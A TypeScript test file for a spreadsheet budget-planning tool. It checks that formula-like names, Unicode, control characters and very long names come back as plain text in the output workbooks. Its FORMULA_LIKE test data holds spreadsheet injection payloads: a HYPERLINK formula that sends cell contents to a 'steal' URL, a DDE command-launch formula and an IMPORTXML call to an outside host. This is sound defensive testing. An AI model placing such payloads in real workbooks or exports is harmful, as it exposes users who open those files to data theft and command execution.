import JSZip from 'jszip';
import ExcelJS from 'exceljs';
import { E, gridsXlsx, minimal, N, W, type CaseRun, type CorpusCase, type Row } from '../case';

/** Every cell of every output sheet, with where it is. */
function outputCells(run: CaseRun): { where: string; cell: ExcelJS.Cell }[] {
  const owned = new Set<string>(run.result.tables.map((t) => t.name));
  const cells: { where: string; cell: ExcelJS.Cell }[] = [];
  for (const ws of run.written.worksheets) {
    if (!owned.has(ws.name)) continue;
    ws.eachRow((row) => row.eachCell((cell) => cells.push({ where: `${ws.name}!${cell.address}`, cell })));
  }
  return cells;
}

/** Text that a spreadsheet would run if it were written as a formula (CSV/formula injection). */
const FORMULA_LIKE = {
  agency: '=1+1',
  goal: '=HYPERLINK("http://example.com/steal?d="&A1,"Click for details")',
  leader: '@SUM(1,1)',
  objective: "=cmd|' /C calc'!A0",
  account: '+1-2',
  accountTitle: '-2+3',
  category: '=2*3',
  measure: '=IMPORTXML("http://example.com","//a")',
  unit: '\t=1',
} as const;

const UNICODE = {
  agency: 'Département de l’Économie',
  goal: 'الإسكان الميسر للجميع',
  objective: 'תחבורה ציבורית נגישה',
  measure: '中文 指标 🚀 (emoji) — Café with e\u0301',
  accountTitle: 'Fonds fédéral\u200f des bâtiments',
} as const;

export const textCases: CorpusCase[] = [
  {
    name: 'formula-like text in names and IDs',
    why: 'Names that start with = + - @ must come back as text, never as a live formula in the output workbook.',
    grids: () =>
      minimal({
        Settings: [
          ['Setting', 'Value'],
          ['Agency', FORMULA_LIKE.agency],
        ],
        Budget: [
          ['Account', 'Account Title', 'Category', 'Amount Type', 'FY2018'],
          [FORMULA_LIKE.account, FORMULA_LIKE.accountTitle, FORMULA_LIKE.category, 'BA', 1000],
        ],
        Goals: [
          ['Goal ID', 'Goal', 'Leader'],
          ['G1', FORMULA_LIKE.goal, FORMULA_LIKE.leader],
        ],
        Objectives: [
          ['Objective ID', 'Goal ID', 'Objective'],
          ['1.1', 'G1', FORMULA_LIKE.objective],
        ],
        Measures: [
          ['Measure ID', 'Objective ID', 'Measure', 'Unit', 'Kind', 'Direction'],
          ['M1', '1.1', FORMULA_LIKE.measure, FORMULA_LIKE.unit, 'Count', 'Increase'],
        ],
        Crosswalk: [
          ['Account', 'Objective ID', 'Share'],
          [FORMULA_LIKE.account, '1.1', '100%'],
        ],
      }),
    expected: [],
    totals: { 'Budget Authority': { FY2018: 1000 } },
    check: (run) => {
      const cells = outputCells(run);
      const formulas = cells.filter(
        ({ cell }) => cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined,
      );
      expect(formulas.map((c) => c.where)).toEqual([]);
      // Each formula-like value is in the output, as the very text typed (the unit's leading tab is trimmed).
      const texts = new Set(
        cells.filter(({ cell }) => typeof cell.value === 'string').map((c) => c.cell.value),
      );
      for (const [what, text] of Object.entries(FORMULA_LIKE)) {
        if (what === 'agency' || what === 'unit') continue;
        expect({ what, found: texts.has(text) }).toEqual({ what, found: true });
      }
      expect(texts.has('=1')).toBe(true);
      const title = run.written.getWorksheet('ResourcesByGoal')?.getCell('A1');
      expect(title?.type).toBe(ExcelJS.ValueType.String);
      expect(String(title?.value)).toMatch(/^=1\+1: Resources by Strategic Goal/);
    },
  },
  {
    name: 'Unicode and right-to-left names, and a Budget table on an Arabic-named sheet',
    why: 'Names in any script come back exactly as typed, and an issue on a sheet named in Arabic points at it.',
    xlsx: () =>
      gridsXlsx(
        minimal({
          Settings: [
            ['Setting', 'Value'],
            ['Agency', UNICODE.agency],
          ],
          Budget: null,
          Goals: [
            ['Goal ID', 'Goal'],
            ['G1', UNICODE.goal],
          ],
          Objectives: [
            ['Objective ID', 'Goal ID', 'Objective'],
            ['1.1', 'G1', UNICODE.objective],
          ],
          Measures: [
            ['Measure ID', 'Objective ID', 'Measure', 'Unit', 'Kind', 'Direction'],
            ['M1', '1.1', UNICODE.measure, 'Raw Count', 'Count', 'Increase'],
          ],
        }),
        (wb) =>
          wb.addWorksheet('الميزانية').addTable({
            name: 'Budget',
            ref: 'A1',
            columns: ['Account', 'Account Title', 'Amount Type', 'FY2018'].map((name) => ({ name })),
            rows: [
              ['023-05-0110', UNICODE.accountTitle, 'BA', 1000],
              ['023-05-0110', UNICODE.accountTitle, 'Obligations', { error: '#REF!' }],
            ],
          }),
      ),
    expected: [E('CELL_ERROR_VALUE', "'الميزانية'!D3")],
    totals: { 'Budget Authority': { FY2018: 1000 } },
    check: ({ result, written }) => {
      const rbg = written.getWorksheet('ResourcesByGoal');
      const names: unknown[] = [];
      rbg?.eachRow((row) => names.push(row.getCell(4).value));
      expect(names).toEqual(expect.arrayContaining([UNICODE.goal, UNICODE.objective]));
      expect(String(rbg?.getCell('A1').value)).toContain(UNICODE.agency);
      const issue = result.issues[0];
      expect(issue?.sheet).toBe('الميزانية');
      const issues = written.getWorksheet('Issues');
      expect(issues?.getCell('D4').value).toBe('الميزانية');
    },
  },
  {
    name: 'control characters and noncharacters in names',
    why: 'Excel stores a bell or U+FFFE in text as _x0007_ / _xFFFE_; the output must still be a workbook Excel and Throughline can open.',
    xlsx: async () => {
      const zip = await JSZip.loadAsync(
        await gridsXlsx(
          minimal({
            Goals: [
              ['Goal ID', 'Goal'],
              ['G1', 'GOAL_NAME'],
            ],
          }),
        ),
      );
      const path = 'xl/sharedStrings.xml';
      const xml = (await zip.file(path)?.async('string')) ?? '';
      zip.file(path, xml.replace('GOAL_NAME', 'Real_x0007_ Estate_xFFFE_ and_x001B_ more'));
      return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
    },
    expected: [],
    totals: { 'Budget Authority': { FY2018: 1000 } },
    check: ({ written }) => {
      const name = written.getWorksheet('ResourcesByGoal')?.getCell('D4').value;
      expect(String(name)).toMatch(/^Real.? Estate.? and.? more$/);
    },
  },
  {
    name: 'very long names',
    why: "A 32,767-character name (Excel's limit) is written whole, and a message quoting it stays within the limit.",
    grids: () =>
      minimal({
        Goals: [
          ['Goal ID', 'Goal'],
          ['G1', 'G'.repeat(32767)],
        ],
        Objectives: [
          ['Objective ID', 'Goal ID', 'Objective'],
          ['1.1', 'G1', 'Reduce the cost of Federal inventory'],
          ['1.2', 'G'.repeat(300), 'O'.repeat(32767)],
        ],
      }),
    expected: [E('UNKNOWN_GOAL', 'Objectives!A3'), N('OBJECTIVE_NO_MEASURES', 'Objectives!A3')],
    totals: { 'Budget Authority': { FY2018: 1000 } },
    check: ({ written }) => {
      let longest = 0;
      for (const ws of written.worksheets)
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            if (typeof cell.value === 'string') longest = Math.max(longest, cell.value.length);
          }),
        );
      expect(longest).toBe(32767);
    },
  },
  {
    name: 'sheet and pool names that need quotes',
    why: "A pool named O'Brien on a sheet named Cost Pools is quoted as Excel quotes it in every place.",
    grids: () =>
      minimal({
        Crosswalk: [
          ['Account', 'Objective ID', 'Cost Pool', 'Share'],
          ['023-05-0110', '1.1', null, '90%'],
          ['023-05-0110', null, "O'Brien Building", '10%'],
        ],
        'Cost Pools': [
          ['Cost Pool', 'Method'],
          ["O'Brien Building", 'Direct Cost'],
          ["O'Brien Building", 'Equal'],
        ],
      }),
    expected: [E('DUPLICATE_ID', "'Cost Pools'!A3")],
    totals: { 'Budget Authority': { FY2018: 1000 } },
  },
  {
    name: 'amount type and units nobody uses',
    why: 'A typo in Amount Type leaves the line out with an error; a bad Units setting falls back to Dollars, said so.',
    grids: () =>
      minimal({
        Settings: [
          ['Setting', 'Value'],
          ['Units', 'Bajillions'],
          ['Colour', 'Blue'],
        ],
        Budget: [
          ['Account', 'Amount Type', 'FY2018'],
          ['023-05-0110', 'BA', 1000],
          ['023-05-0110', 'Budget Authorty', 5],
        ],
      }),
    expected: [
      E('SETTING_INVALID', 'Settings!B2'),
      W('SETTING_UNKNOWN', 'Settings!A3'),
      E('VALUE_NOT_ALLOWED', 'Budget!B3'),
    ],
    totals: { 'Budget Authority': { FY2018: 1000 } },
  },
];

export type { Row };
